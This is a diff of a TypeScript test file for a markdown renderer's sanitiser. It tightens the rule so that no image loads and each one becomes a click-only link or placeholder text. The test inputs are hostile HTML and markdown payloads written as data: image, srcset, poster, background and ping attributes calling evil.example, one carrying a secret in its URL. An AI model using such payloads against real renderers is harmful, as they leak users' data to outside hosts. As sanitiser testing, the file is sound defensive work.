@@ -60,7 +60,7 @@ describe('renderMarkdown', () => {
     expect(html).not.toMatch(/onerror|onload|onclick/i);
     expect(html).not.toMatch(/javascript:/i);
     for (const a of d.querySelectorAll('a')) expect(a.getAttribute('href') || '').not.toMatch(/^javascript/i);
-    expect(d.querySelector('img')!.getAttribute('onerror')).toBeNull();
+    expect(d.querySelector('img')).toBeNull();
     expect(d.querySelector('b')!.getAttribute('style')).toBeNull();
   });
 
@@ -71,35 +71,36 @@ describe('renderMarkdown', () => {
     expect(d.querySelector('code')!.textContent).toContain('<script>alert(1)</script>');
   });
 
-  it('never loads a remote image: each becomes a link to click instead', () => {
+  it('never loads an image: each becomes a link to click instead, or its words', () => {
     const secret = 'code 58-27-93';
     const html = renderMarkdown(
       `![leak](https://evil.example/x.png?q=${encodeURIComponent(secret)}) ` +
         '<img src="https://evil.example/a.png" alt="a"> <img src="//evil.example/b.png"> ' +
         '<img src="/\\evil.example/c.png"> <img src="data:image/png;base64,iVBORw0KGgo=" srcset="https://evil.example/d.png 2x"> ' +
-        '<picture><source srcset="https://evil.example/e.png"><img src="data:image/gif;base64,R0lGOD=="></picture> ' +
+        '<picture><source srcset="https://evil.example/e.png"><img src="data:image/gif;base64,R0lGOD==" alt="dot"></picture> ' +
         '<video poster="https://evil.example/f.png" src="https://evil.example/g.mp4"></video> ' +
         '<audio src="https://evil.example/h.mp3"></audio> <svg><image href="https://evil.example/i.png"></image></svg> ' +
-        '<table background="https://evil.example/j.png"><tr><td>t</td></tr></table> <a href="https://example.com" ping="https://evil.example/k">k</a>',
+        '<table background="https://evil.example/j.png"><tr><td>t</td></tr></table> <a href="https://example.com" ping="https://evil.example/k">k</a> ' +
+        // This site's own addresses load nothing either: a GET the reader never chose.
+        '![own](/x) <img src="/share/x"> <img alt="no source">',
     );
     expect(html).not.toMatch(/srcset|poster|background|ping=/i);
     const d = dom(html);
-    for (const el of d.querySelectorAll('[src], [href], [srcset], [poster], [background]')) {
-      if (el.tagName === 'A') continue; // a link loads nothing until it is clicked
-      const url = el.getAttribute('src') || el.getAttribute('href') || '';
-      expect(url, el.outerHTML).toMatch(/^data:image\//);
-    }
-    expect(d.querySelectorAll('video, audio, source, picture, image, svg')).toHaveLength(0);
+    expect(d.querySelectorAll('img, video, audio, source, picture, image, svg')).toHaveLength(0);
+    for (const el of d.querySelectorAll('[src], [srcset], [poster], [background]')) throw new Error(el.outerHTML);
     const links = [...d.querySelectorAll('a.remote-image')] as HTMLAnchorElement[];
     expect(links.map((a) => a.getAttribute('href'))).toEqual([
       `https://evil.example/x.png?q=${encodeURIComponent(secret)}`,
       'https://evil.example/a.png',
       '//evil.example/b.png',
       '/\\evil.example/c.png',
+      '/x',
+      '/share/x',
     ]);
-    expect(links[0].textContent).toContain('leak');
+    expect(links.map((a) => a.textContent)).toEqual(['[image: leak]', '[image: a]', '[image]', '[image]', '[image: own]', '[image]']);
     expect(links[0].getAttribute('rel')).toContain('noreferrer');
-    expect(d.querySelectorAll('img')).toHaveLength(2); // the two data: images stay
+    // Inline data: images and one with no address are their words, not links.
+    expect([...d.querySelectorAll('.image-removed')].map((s) => s.textContent)).toEqual(['[image]', '[image: dot]', '[image: no source]']);
   });
 
   it('opens links in a new tab without an opener', () => {
